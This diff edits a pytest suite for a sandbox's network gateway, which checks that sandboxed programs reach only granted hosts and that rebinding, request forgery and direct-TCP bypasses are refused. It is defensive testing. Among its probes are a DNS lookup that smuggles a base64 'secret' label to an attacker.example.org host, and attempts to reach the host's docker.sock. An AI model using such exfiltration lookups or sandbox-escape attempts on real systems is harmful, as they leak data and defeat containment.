@@ -9,18 +9,14 @@ from __future__ import annotations
 import json
 import os
 import signal
-import socket
 import subprocess
-import sys
-from collections.abc import Generator
-from contextlib import closing, contextmanager
 from dataclasses import replace
 from pathlib import Path
 from textwrap import dedent
 
 import pytest
 
-from tests.kernel.net_harness import Internet, gateway_of
+from tests.kernel.net_harness import TALK, Internet, gateway_of
 from tests.kernel.run_harness import World, ended, first_line, libc_python
 
 pytestmark = [
@@ -30,30 +26,6 @@ pytestmark = [
 
 GRANTED = "granted.example.com"
 OTHER = "other.example.com"
-HELPERS = """
-def talk(host, port, family=0):
-    "One request over TCP, what came back, or the error."
-    for family, kind, protocol, _, address in socket.getaddrinfo(host, port, family, socket.SOCK_STREAM):
-        with socket.socket(family, kind, protocol) as client:
-            client.settimeout(20)
-            client.connect(address)
-            client.sendall(b"GET / HTTP/1.0\\r\\nHost: " + host.encode() + b"\\r\\n\\r\\n")
-            answer = b""
-            while piece := client.recv(65536):
-                answer += piece
-        if not answer:
-            raise OSError(errno.ECONNRESET, "hung up")
-        if b" 200 " not in answer:
-            raise OSError(errno.EACCES, answer.decode())
-        return answer
-def udp(host, port, family=socket.AF_INET):
-    "One datagram, and its echo."
-    with socket.socket(family, socket.SOCK_DGRAM) as client:
-        client.settimeout(20)
-        client.connect((host, port))
-        client.send(b"ping")
-        return client.recv(1000)
-"""
 
 
 # --- what is granted works ---------------------------------------------------------------------------------------------
@@ -102,8 +74,8 @@ def test_a_network_is_granted_without_names(net: Internet) -> None:
         "other port": "talk('203.0.113.20', 8080)",
         "other address": "talk('203.0.113.10', 5432)",
     }
-    assert set(net.world.outsides(tries, before=HELPERS).values()) == {"ok"}
-    assert net.world.probes(tries, *options, before=HELPERS) == {
+    assert set(net.world.outsides(tries, before=TALK).values()) == {"ok"}
+    assert net.world.probes(tries, *options, before=TALK) == {
         "address": "ok",
         "private": "ok",
         "other port": "ECONNRESET",
@@ -122,10 +94,10 @@ def test_every_name_is_granted(net: Internet) -> None:
         "address": "talk('203.0.113.20', 8080)",
         "port": f"talk({GRANTED!r}, 80)",
     }
-    assert set(net.world.outsides(tries, before=HELPERS).values()) == {"ok"}
+    assert set(net.world.outsides(tries, before=TALK).values()) == {"ok"}
     net.forget()
     granted = dict.fromkeys(tries, "ECONNRESET") | {"name": "ok", "another": "ok"}
-    assert net.world.probes(tries, "--connect", "*:8080", before=HELPERS) == granted
+    assert net.world.probes(tries, "--connect", "*:8080", before=TALK) == granted
     net.forget()
     # A name that is only looked up leaves nothing outside, whatever it says.
     look = "socket.getaddrinfo('c2VjcmV0.attacker.example.org', 8080)"
@@ -135,14 +107,14 @@ def test_every_name_is_granted(net: Internet) -> None:
 
 def test_udp_is_granted_by_name_and_by_address(net: Internet) -> None:
     options = ("--connect", f"{GRANTED}:4433/udp", "--connect", "203.0.113.20:9999/udp")
-    result = net.world.python(HELPERS + f"print(udp({GRANTED!r}, 4433)); print(udp('203.0.113.20', 9999))", *options)
+    result = net.world.python(TALK + f"print(udp({GRANTED!r}, 4433)); print(udp('203.0.113.20', 9999))", *options)
     first, second = result.lines
     assert first in ("b'203.0.113.10 ping'", "b'2001:db8::10 ping'")
     assert second == "b'203.0.113.20 ping'"
     tries = {"not granted": "udp('203.0.113.30', 4444)", "granted host": f"udp({GRANTED!r}, 9998)"}
-    assert set(net.world.probes(tries, *options, before=HELPERS).values()) == {"EPERM"}
+    assert set(net.world.probes(tries, *options, before=TALK).values()) == {"EPERM"}
     before = net.reached()
-    code = HELPERS + "client = socket.socket(type=socket.SOCK_DGRAM); client.sendto(b'x', ('203.0.113.30', 4433))"
+    code = TALK + "client = socket.socket(type=socket.SOCK_DGRAM); client.sendto(b'x', ('203.0.113.30', 4433))"
     # A granted port of another host arrives at the gateway, which sends it nowhere; a granted one after it is answered.
     assert net.world.python(code + f"\nprint(udp({GRANTED!r}, 4433))", *options).status == 0
     assert net.reached() == before
@@ -164,13 +136,11 @@ TCP_BYPASSES = {
 
 
 def test_direct_tcp_reaches_nothing(net: Internet) -> None:
-    assert set(net.world.outsides(TCP_BYPASSES, before=HELPERS).values()) == {"ok"}
+    assert set(net.world.outsides(TCP_BYPASSES, before=TALK).values()) == {"ok"}
     before = net.seen()
-    assert set(net.world.probes(TCP_BYPASSES, "--connect", f"{GRANTED}:8080", before=HELPERS).values()) == {
-        "ECONNRESET"
-    }
+    assert set(net.world.probes(TCP_BYPASSES, "--connect", f"{GRANTED}:8080", before=TALK).values()) == {"ECONNRESET"}
     assert net.seen() == before  # no server was reached and no name was asked for
-    assert net.world.probe(f"talk({GRANTED!r}, 8080)", "--connect", f"{GRANTED}:8080", before=HELPERS) == "ok"
+    assert net.world.probe(f"talk({GRANTED!r}, 8080)", "--connect", f"{GRANTED}:8080", before=TALK) == "ok"
 
 
 def test_the_hosts_loopback_is_not_the_sessions(net: Internet) -> None:
@@ -180,9 +150,9 @@ def test_the_hosts_loopback_is_not_the_sessions(net: Internet) -> None:
         "localhost": "talk('localhost', 8080)",
         "zero": "talk('0.0.0.0', 8080)",
     }
-    assert set(net.world.outsides(tries, before=HELPERS).values()) == {"ok"}
+    assert set(net.world.outsides(tries, before=TALK).values()) == {"ok"}
     before = net.reached()
-    results = net.world.probes(tries, "--connect", f"{GRANTED}:8080", before=HELPERS)
+    results = net.world.probes(tries, "--connect", f"{GRANTED}:8080", before=TALK)
     assert set(results.values()) <= {"ECONNREFUSED", "ECONNRESET"}
     # Not by the proxy either, which is outside.
     curl = "curl -sS -o /dev/null -w '%{http_code}\\n' --noproxy '' -x http://127.0.0.1:880"
@@ -210,9 +180,9 @@ def test_other_protocols(net: Internet) -> None:
         "route": "route()",
     }
     assert net.world.outside("socket.socket(socket.AF_UNIX).connect('\\0remit-test-abstract')") == "ok"
-    assert net.world.outside("udp('203.0.113.20', 9999)", before=HELPERS) == "ok"
+    assert net.world.outside("udp('203.0.113.20', 9999)", before=TALK) == "ok"
     before = net.seen()
-    results = net.world.probes(tries, "--connect", f"{GRANTED}:8080", before=HELPERS + ROUTE)
+    results = net.world.probes(tries, "--connect", f"{GRANTED}:8080", before=TALK + ROUTE)
     assert results == {
         "udp": "EPERM",
         "udp of the granted name": "EPERM",
@@ -285,19 +255,19 @@ def test_the_resolver_hears_of_no_name_that_was_not_granted(net: Internet) -> No
     code = QUERY + f"print(query({GRANTED!r}), query({GRANTED!r}, tcp=True), query({GRANTED!r}, resolver='192.0.2.1'))"
     assert net.world.python(code, "--connect", f"{GRANTED}:8080").stdout == "(0, 1) (0, 1) (0, 1)\n"
     assert net.asked() == set()
-    assert net.world.probe(f"talk({GRANTED!r}, 8080)", "--connect", f"{GRANTED}:8080", before=HELPERS) == "ok"
+    assert net.world.probe(f"talk({GRANTED!r}, 8080)", "--connect", f"{GRANTED}:8080", before=TALK) == "ok"
     assert net.asked() == {GRANTED}
 
 
 def test_a_public_name_for_a_private_address(net: Internet) -> None:
     """DNS rebinding, server-side request forgery: the name is granted, the address behind it is the host's own."""
     tries = {name: f"talk('{name}.example.com', 8080)" for name in ("rebound", "private")}
-    assert set(net.world.outsides(tries, before=HELPERS).values()) == {"ok"}
+    assert set(net.world.outsides(tries, before=TALK).values()) == {"ok"}
     before = net.reached()
     options = ("--connect", "rebound.example.com:8080", "--connect", "private.example.com:8080")
-    assert set(net.world.probes(tries, *options, before=HELPERS).values()) == {"ECONNRESET"}
+    assert set(net.world.probes(tries, *options, before=TALK).values()) == {"ECONNRESET"}
     assert net.reached() == before
-    assert net.world.probe(tries["private"], *options, "--connect", "10.0.0.5:8080", before=HELPERS) == "ok"
+    assert net.world.probe(tries["private"], *options, "--connect", "10.0.0.5:8080", before=TALK) == "ok"
 
 
 def test_the_outer_name_of_tls_is_the_granted_one(net: Internet) -> None:
@@ -319,7 +289,7 @@ def test_without_a_grant_there_is_no_gateway(net: Internet) -> None:
         "udp": "udp('203.0.113.10', 4433)",
         "IPv6": "talk('2001:db8::10', 8080, socket.AF_INET6)",
     }
-    assert set(net.world.probes(tries, before=HELPERS).values()) == {"ENETUNREACH"}
+    assert set(net.world.probes(tries, before=TALK).values()) == {"ENETUNREACH"}
     result = net.world.shell("env | grep -ci _proxy; cat /etc/resolv.conf")
     assert result.lines == ["0", "nameserver 203.0.113.53"]  # the host's own file, which leads nowhere
     assert net.world.probe("socket.create_connection(('127.0.0.1', 880))") == "ECONNREFUSED"
@@ -328,11 +298,11 @@ def test_without_a_grant_there_is_no_gateway(net: Internet) -> None:
 
 def test_the_hosts_network_only_by_name(net: Internet) -> None:
     options = ("--degrade", "network", "--connect", f"{GRANTED}:8080")
-    assert net.world.probe("talk('203.0.113.20', 8080)", *options, before=HELPERS) == "ok"
+    assert net.world.probe("talk('203.0.113.20', 8080)", *options, before=TALK) == "ok"
 
 
 def test_what_a_program_may_do_on_its_own_loopback(net: Internet) -> None:
-    code = HELPERS + dedent("""
+    code = TALK + dedent("""
     import threading
     server = socket.create_server(("127.0.0.1", 3000))
     def serve():
@@ -398,7 +368,7 @@ def test_without_a_loopback_only_the_ports_that_were_granted(net: Internet, way_
     }
     if way_out:
         tries = {"granted": f"talk({GRANTED!r}, 8080)", "other": "talk('203.0.113.20', 8080)"}
-        assert world.probes(tries, before=HELPERS) == {"granted": "ok", "other": "ECONNRESET"}
+        assert world.probes(tries, before=TALK) == {"granted": "ok", "other": "ECONNRESET"}
         curl = f"curl -sS -o /dev/null -w '%{{http_code}}\\n' http://{GRANTED}:8080/"
         assert world.shell(curl).lines == ["200"]
     else:
@@ -422,7 +392,7 @@ def test_a_published_port_without_a_loopback(net: Internet) -> None:
 
 
 LOOP = (
-    HELPERS
+    TALK
     + """
 print("up", flush=True)
 for line in sys.stdin:
@@ -475,7 +445,7 @@ def test_a_dead_gateway_is_no_network_and_is_said(net: Internet) -> None:
 
 def test_what_was_decided_is_recorded(net: Internet) -> None:
     tries = {"ok": f"talk({GRANTED!r}, 8080)", "denied": "talk('203.0.113.20', 8080)"}
-    net.world.probes(tries, "--connect", f"{GRANTED}:8080", before=HELPERS)
+    net.world.probes(tries, "--connect", f"{GRANTED}:8080", before=TALK)
     events = [json.loads(line) for line in (net.world.records()[-1] / "events.jsonl").read_text().splitlines()]
     network = [event for event in events if event.get("source") == "gateway" and event["right"] == "connect"]
     assert [(event["object"], event["verdict"]) for event in network] == [
@@ -537,221 +507,3 @@ def test_a_port_that_is_taken_ends_the_start(net: Internet) -> None:
     assert result.status == 125
     assert "127.0.0.1:8080" in result.stderr
     assert "another port" in result.stderr
-
-
-# --- Unix sockets ------------------------------------------------------------------------------------------------------
-
-
-@contextmanager
-def unix_server(path: Path, kind: int = socket.SOCK_STREAM) -> Generator[socket.socket, None, None]:
-    """A server of the host's, at a path."""
-    with closing(socket.socket(socket.AF_UNIX, kind)) as server:
-        server.bind(str(path))
-        if kind != socket.SOCK_DGRAM:
-            server.listen()
-        path.chmod(0o777)
-        yield server
-
-
-def connects(path: Path | str, kind: str = "SOCK_STREAM") -> str:
-    return f"socket.socket(socket.AF_UNIX, socket.{kind}).connect({str(path)!r})"
-
-
-@pytest.mark.parametrize("kind", [socket.SOCK_STREAM, socket.SOCK_SEQPACKET])
-def test_a_socket_in_a_granted_directory_is_not_granted(world: World, kind: socket.SocketKind) -> None:
-    path = world.workspace / "agent.sock"
-    link = world.workspace / "link"
-    link.symlink_to(path)
-    with unix_server(path, kind):
-        tries = {
-            "name": connects(path, kind.name),
-            "relative": connects("agent.sock", kind.name),
-            "link": connects(link, kind.name),
-        }
-        assert set(world.outsides(tries).values()) == {"ok"}
-        assert set(world.probes(tries).values()) == {"EACCES"}
-        assert set(world.probes(tries, "--unix", str(path)).values()) == {"ok"}
-
-
-def test_a_granted_socket_is_all_that_is_there_of_its_directory(world: World) -> None:
-    runtime = world.base / "runtime"
-    (runtime / "secret").write_text("x")
-    os.chmod(runtime, 0o755)
-    with unix_server(runtime / "bus"), unix_server(runtime / "docker.sock"):
-        assert world.probe(connects(runtime / "bus")) == "ENOENT"
-        tries = {
-            "bus": connects(runtime / "bus"),
-            "docker": connects(runtime / "docker.sock"),
-            "file": f"read('{runtime}/secret')",
-        }
-        assert world.probes(tries, "--unix", str(runtime / "bus")) == {
-            "bus": "ok",
-            "docker": "ENOENT",
-            "file": "ENOENT",
-        }
-
-
-def test_sockets_of_the_sessions_own(world: World) -> None:
-    code = """
-    for path in ("own.sock", "/tmp/own.sock", "/dev/shm/own.sock"):
-        server = socket.socket(socket.AF_UNIX)
-        server.bind(path)
-        server.listen()
-        print(attempt(lambda: socket.socket(socket.AF_UNIX).connect(path)))
-    """
-    assert world.python(code).lines == ["ok"] * 3
-
-
-def test_a_socket_that_is_not_there_or_is_none_refuses(world: World) -> None:
-    result = world.run("true", options=["--unix", str(world.base / "none")])
-    assert (result.status, "no such socket" in result.stderr) == (125, True)
-    result = world.run("true", options=["--unix", str(world.home)])
-    assert (result.status, "not a socket" in result.stderr) == (125, True)
-
-
-# --- calls of one session ----------------------------------------------------------------------------------------------
-
-CALLS = """
-import json, os, sys
-from remit import Grant, Session
-program = sys.argv[1]
-session = dict(profile="offline", workspace=os.environ["WORK"], connect=["granted.example.com:8080", "other.example.com:8080"])
-with Session(**session) as running:
-    for grant in (
-        None,
-        Grant(read=["."], connect=["other.example.com:8080"]),
-        Grant(read=["."], connect=["granted.example.com:8080"]),
-        Grant(read=["."]),
-        Grant(read=["."], connect=["other.example.com:8080"]),
-    ):
-        result = running.run(["/usr/bin/python3", "-I", "-S", "-c", program], grant=grant, timeout=60)
-        print(result.stdout.decode().strip() or result.stderr.decode(), flush=True)
-"""
-BOTH = """
-import json
-names = ("granted.example.com", "other.example.com", "203.0.113.20")
-results = [attempt(lambda: talk(name, 8080)) for name in names]
-print(json.dumps([*results, "HTTP_PROXY" in os.environ]))
-"""
-
-
-def test_a_calls_own_network_grant(net: Internet) -> None:
-    """Each call reaches what it was granted, host by host, while its session may more; the record knows whose it was."""
-    program = libc_python(HELPERS)[-1] + BOTH
-    done = subprocess.run(
-        [*net.world.prefix, sys.executable, "-c", CALLS, program],
-        env=net.world.env({"WORK": str(net.world.workspace)}),
-        capture_output=True,
-        text=True,
-        check=False,
-    )
-    assert done.returncode == 0, done.stderr
-    everything, other, granted, nothing, again = (json.loads(line) for line in done.stdout.splitlines())
-    assert everything == ["ok", "ok", "ECONNRESET", True]
-    assert other == ["EAI", "ok", "ECONNRESET", True]
-    assert granted == ["ok", "EAI", "ECONNRESET", True]
-    assert nothing[2:] == ["ENETUNREACH", False]
-    assert nothing[:2] == ["EAI", "EAI"]
-    assert again == other
-
-    events = [json.loads(line) for line in (net.world.records()[-1] / "events.jsonl").read_text().splitlines()]
-    calls = [event["call"] for event in events if event["kind"] == "call"]
-    ended = [(event.get("call", ""), event["object"]) for event in events if event.get("verdict") == "ended"]
-    name = f"{GRANTED}:8080/tcp", f"{OTHER}:8080/tcp"
-    assert ended == [("", name[0]), ("", name[1]), (calls[1], name[1]), (calls[2], name[0]), (calls[4], name[1])]
-    judged = [event for event in events if event.get("source") == "gateway" and event["verdict"] == "denied"]
-    denied = {(event.get("call", ""), event["object"]) for event in judged}
-    assert (calls[1], "203.0.113.20:8080/tcp") in denied
-    assert not any(call == calls[3] for call, _ in denied)
-
-
-TOLD = """
-import json, os, pickle, signal, sys
-from remit import Grant, Session
-hosts = ["granted.example.com:8080", "203.0.113.20:8080"]
-def told(result):
-    assert pickle.loads(pickle.dumps(result)).denials == result.denials and len(result.denials) == result.denied
-    found = sorted({(one.object, one.right, " ".join(one.missing)) for one in result.denials})
-    print(json.dumps([result.returncode, found, str(result.denials[0]).splitlines()[0] if found else ""]), flush=True)
-with Session("offline", os.environ["WORK"], connect=hosts) as running:
-    python = ["/usr/bin/python3", "-I", "-S", "-c"]
-    for grant in (None, Grant(read=["."], connect=hosts[:1]), Grant(read=["."])):
-        told(running.run([*python, sys.argv[1]], grant=grant, timeout=60))
-    told(running.run([*python, sys.argv[2]], timeout=60))
-    told(running.run(["true"]))
-    # The gateway's word and the call's end lie there together when whoever writes the record wakes up.
-    template = int(open(f"/proc/self/task/{os.getpid()}/children").read().split()[0])
-    for _ in range(5):
-        os.kill(template, signal.SIGSTOP)
-        late = running.run([*python, sys.argv[1].replace("203.0.113.20", "203.0.113.30")], timeout=60)
-        os.kill(template, signal.SIGCONT)
-        told(late)
-    with running.narrow(Grant(read=["."], connect=hosts[:1])) as narrow:
-        told(narrow.run([*python, sys.argv[1]], timeout=60))
-    gone = running.run(["false"])
-    os.rename(gone.record, gone.record + "-away")
-    try:
-        gone.denials
-    except Exception as error:
-        print(type(error).__name__, gone.counted)
-    os.rename(gone.record + "-away", gone.record)
-"""
-
-
-def test_a_calls_denials_have_what_the_network_refused(net: Internet) -> None:
-    """The gateway's refusals and the namespace's are told beside the mediator's, of each call its own."""
-    beside = "\ntry:\n    open('/usr/planted', 'w')\nexcept OSError:\n    pass\n"
-    refused, reached = (
-        libc_python(HELPERS)[-1] + text
-        for text in (beside + "talk('203.0.113.20', 8080)\n", beside + "talk('granted.example.com', 8080)\n")
-    )
-    done = subprocess.run(
-        [*net.world.prefix, sys.executable, "-c", TOLD, refused, reached],
-        env=net.world.env({"WORK": str(net.world.workspace)}),
-        capture_output=True,
-        text=True,
-        check=False,
-    )
-    assert done.returncode == 0, done.stderr
-    *told, gone = done.stdout.splitlines()
-    whole, own, none, fine, silent, *late, narrow = (json.loads(line) for line in told)
-    planted = ["/usr/planted", "write", "--write /usr"]
-    address = ["203.0.113.20:8080/tcp", "connect", "--connect 203.0.113.20:8080"]
-    assert whole[:2] == [0, [planted]]
-    for one in (own, narrow):
-        assert one[0] != 0
-        assert one[1] == [planted, address]
-    assert none[0] != 0
-    assert [*none[1][0]] == planted
-    assert [thing.partition("/")[0] for thing, *_ in none[1][1:]] == ["203.0.113.20:8080"]
-    assert fine[:2] == [0, [planted]]
-    assert silent == [0, [], ""]
-    for one in late:
-        assert [thing for thing, *_ in one[1]] == ["/usr/planted", "203.0.113.30:8080/tcp"]
-    assert gone == "RecordError 0"
-
-
-NARROWED = """
-import os
-from remit import Grant, Session
-hosts = ["granted.example.com:8080", "other.example.com:8080"]
-with Session("offline", os.environ["WORK"], connect=hosts) as wide:
-    with wide.narrow(Grant(read=["."], connect=hosts[:1])) as narrow:
-        for session in (wide, narrow, narrow.narrow(Grant(read=["."]))):
-            for host in hosts:
-                done = session.run(["curl", "-sS", "-m", "20", "-o", "/dev/null", "-w", "%{http_code}", f"http://{host}/"])
-                print(done.stdout.decode(), end=" ")
-"""
-
-
-def test_a_narrowed_session_has_no_more_than_its_own_network(net: Internet) -> None:
-    """Its calls have the grant of the narrower session, where they have none of their own: not the whole session's network."""
-    done = subprocess.run(
-        [*net.world.prefix, sys.executable, "-c", NARROWED],
-        env=net.world.env({"WORK": str(net.world.workspace)}),
-        capture_output=True,
-        text=True,
-        check=False,
-    )
-    assert done.stdout.split() == ["200", "200", "200", "403", "000", "000"], done
-    assert [what.split()[1] for kind, what in net.seen() if kind == "tcp"] == ["8080"] * 3
